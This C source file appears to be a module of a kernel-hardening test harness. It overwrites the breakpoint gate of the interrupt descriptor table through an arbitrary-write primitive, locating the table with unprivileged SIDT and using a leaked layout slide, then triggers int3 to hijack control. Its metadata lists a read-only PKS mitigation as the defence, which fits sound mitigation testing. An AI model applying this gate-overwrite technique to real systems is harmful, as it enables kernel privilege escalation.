/* SPDX-License-Identifier: BSD-3-Clause */
/*
 * The table of interrupts: SIDT tells any program where it is. A gate is overwritten by an arbitrary write, and a
 * program raises its exception.
 */
#include "attacks.h"

#define BREAKPOINT 3
#define GATE_SIZE 16

PROGRAM(exits, PROGRAM_EXIT);
PROGRAM(breaks, "int3\n" PROGRAM_EXIT);

struct PACKED table {
	uint16_t limit;
	uint64_t base;
};

/* As a program does it: it needs no privilege. */
static struct table table(void)
{
	struct table t;

	__asm__ volatile("sidt %0" : "=m"(t));
	return t;
}

static bool benign(const struct attack *attack)
{
	return attack_program_run(exits, 0, 0) && table().limit >= GATE_SIZE * BREAKPOINT;
}

static void run(const struct attack *attack)
{
	uint64_t goal = attack_linked_code(attack_goal) + attack_leaked_slide();
	uintptr_t gate = table().base + GATE_SIZE * BREAKPOINT;
	const uint16_t low = (uint16_t)goal, middle = (uint16_t)(goal >> 16);
	const uint32_t high = (uint32_t)(goal >> 32);

	attack_primitive(attack);
	attack_write(gate, &low, sizeof(low));
	attack_write(gate + 6, &middle, sizeof(middle));
	attack_write(gate + 8, &high, sizeof(high));
	attack_program_run(breaks, 0, 0);
}

ATTACK(idt, .family = "interrupt table", .primitive = ARBITRARY_WRITE, .knowledge = LAYOUT_LEAKED,
       .stopped_by = "readonly pks", .about = "a gate of the table of interrupts leads to the goal", .run = run,
       .benign = benign);
